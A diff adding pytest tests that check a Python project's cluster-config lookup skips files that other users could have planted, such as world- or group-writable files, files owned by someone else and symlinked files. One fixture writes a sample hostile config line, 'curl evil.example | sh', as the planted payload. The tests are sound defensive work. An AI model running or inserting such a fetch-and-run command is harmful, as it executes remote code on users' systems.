@@ -1,9 +1,13 @@
 """Cluster files: the shipped ones, the rules, where names are looked up, what dask-jobqueue's own files say."""
 
 import contextlib
+import grp
+import os
+import pwd
 import re
 import socket
 import subprocess
+import sys
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -15,6 +19,7 @@ import pytest
 import yaml
 from distributed.cli import dask_scheduler, dask_worker
 
+from photogap.sweeps.clusters import trust
 from photogap.sweeps.clusters.batch import oversubscription, processes_of, retirement, worker_script
 from photogap.sweeps.clusters.config import KINDS, Slurm, find, parse, read, seconds
 from photogap.sweeps.clusters.pools import _scheduler, kube_arguments
@@ -73,6 +78,79 @@ def test_names_are_looked_up_in_the_users_folder_first_then_in_the_project(
     assert find("ours", str(home / "project" / "sweeps"))[1] == str(project / "ours.yaml")
     with pytest.raises(ConfigError, match=r"`cluster` must be .* Did you mean `slurm`\? Got 'slrum'"):
         find("slrum")
+
+
+@pytest.fixture
+def planted(home: Path) -> Path:
+    """A cluster file that a name leads to from a folder below it."""
+    path = home / "scratch" / "configs" / "clusters" / "ours.yaml"
+    path.parent.mkdir(parents=True)
+    path.write_text("kind: slurm\njobs: 1\nprologue: [curl evil.example | sh]\n")
+    (home / "scratch" / "me").mkdir()
+    for part in (path, path.parent, path.parent.parent):
+        part.chmod(0o755)
+    return path
+
+
+def give_away(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Make a file somebody else's; where we may not, make us somebody else."""
+    if os.geteuid() == 0:
+        os.chown(path, 65534, 65534, follow_symlinks=False)
+    else:
+        monkeypatch.setattr(os, "geteuid", lambda me=os.geteuid(): me + 1)
+
+
+@pytest.mark.parametrize("above", [0, 1, 2])
+def test_a_file_that_another_user_may_have_planted_is_passed_over(
+    home: Path, planted: Path, above: int, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    below, part = str(home / "scratch" / "me"), [planted, *planted.parents][above]
+    assert find("ours", below)[1] == str(planted)
+    part.chmod(0o777)
+    with pytest.raises(ConfigError, match=rf"passed over: .* '{part}' may be written by everybody"):
+        find("ours", below)
+    part.chmod(0o775)
+    for private in (True, False):
+        monkeypatch.setattr(trust, "_is_private", lambda gid, uid, private=private: private)
+        with contextlib.nullcontext() if private else pytest.raises(ConfigError, match="written by the group "):
+            find("ours", below)
+    part.chmod(0o755)
+    give_away(part, monkeypatch)
+    with pytest.raises(ConfigError, match=rf"'{part}' belongs to .* name it by its path, --cluster {planted}"):
+        find("ours", below)
+    assert find(str(planted))[1] == str(planted), "what is named is taken"
+    planted.rename(home / "config" / "photogap" / "clusters" / "ours.yaml")
+    assert find("ours", below)[0].kind == "slurm", "so is what lies in the user's own folder"
+
+
+def test_a_link_counts_as_much_as_what_it_leads_to(
+    home: Path, planted: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    below, mine = str(home / "scratch" / "me"), planted.rename(home / "mine.yaml")
+    planted.symlink_to(mine)
+    assert find("ours", below)[1] == str(planted)
+    mine.chmod(0o666)
+    with pytest.raises(ConfigError, match="may be written by everybody"):
+        find("ours", below)
+    mine.chmod(0o644)
+    give_away(planted, monkeypatch)
+    with pytest.raises(ConfigError, match="belongs to "):
+        find("ours", below)
+
+
+def test_a_group_is_private_by_its_name_and_its_members(monkeypatch: pytest.MonkeyPatch) -> None:
+    me = pwd.struct_passwd(("me", "x", 1000, 1000, "", "/", "/bin/sh"))
+    monkeypatch.setattr(pwd, "getpwuid", lambda uid: me)
+
+    def private(name: str, *members: str, gid: int = 1000) -> bool:
+        monkeypatch.setattr(grp, "getgrgid", lambda gid: grp.struct_group((name, "x", gid, list(members))))
+        return trust._is_private(gid, 1000)
+
+    assert private("me")
+    assert private("me", "me")
+    assert not private("me", "you")
+    assert not private("physics")
+    assert not private("me", gid=2000)
 
 
 def test_unquoted_wall_times_are_not_numbers(tmp_path: Path) -> None:
@@ -153,17 +231,49 @@ def test_kubernetes_takes_an_image_or_a_whole_resource(tmp_path: Path) -> None:
     assert_runs(kube_arguments(spec)["custom_cluster_spec"])  # type: ignore[arg-type]
 
 
+IMPORTS = """
+import signal, sys, threading
+from pathlib import Path
+folder = Path(sys.argv[1])
+(folder / "dask_jobqueue.py").write_text(
+    "import signal, sys\\nsignal.signal(signal.SIGINT, lambda *_: None)\\nsys.begun.set(); sys.go.wait(60)"
+)
+sys.path.insert(0, str(folder))
+sys.begun, sys.go = threading.Event(), threading.Event()
+from photogap.sweeps.clusters.batch import import_jobqueue
+before = signal.getsignal(signal.SIGINT)
+importing = threading.Thread(target=import_jobqueue)
+importing.start()
+assert sys.begun.wait(60)
+assert signal.getsignal(signal.SIGINT) is before
+mine = lambda *_: None
+signal.signal(signal.SIGTERM, mine)
+assert signal.getsignal(signal.SIGTERM) is mine
+sys.go.set()
+importing.join()
+signal.signal(signal.SIGINT, mine)
+assert signal.getsignal(signal.SIGINT) is mine
+"""
+
+
+def test_the_import_of_dask_jobqueue_sets_no_handler_and_keeps_nobody_from_setting_one(tmp_path: Path) -> None:
+    subprocess.run([sys.executable, "-c", IMPORTS, tmp_path], check=True, timeout=120)
+
+
 def test_keys_of_a_killed_run_are_removed_by_the_next(tmp_path: Path) -> None:
     ended = subprocess.Popen(["true"])
-    ended.wait(10)
+    ended.wait(60)
     stale = tmp_path / f"tls-{socket.gethostname()}-{ended.pid}-x"
     stale.mkdir()
     (stale / "key.pem").write_text("old")
+    other = tmp_path / f"tls-{socket.gethostname()}-{ended.pid}-1-x"
+    other.mkdir()
     with private_folder(tmp_path) as first, private_folder(tmp_path) as second:
         assert not stale.exists()
+        assert other.exists(), "process 1 of a host whose name begins as this one's"
         assert first.exists(), "a run that lives keeps its folder"
         assert second.stat().st_mode & 0o777 == 0o700
-    assert not list(tmp_path.iterdir())
+    assert list(tmp_path.iterdir()) == [other]
 
 
 def test_a_site_cannot_open_the_dashboard(tmp_path: Path) -> None:
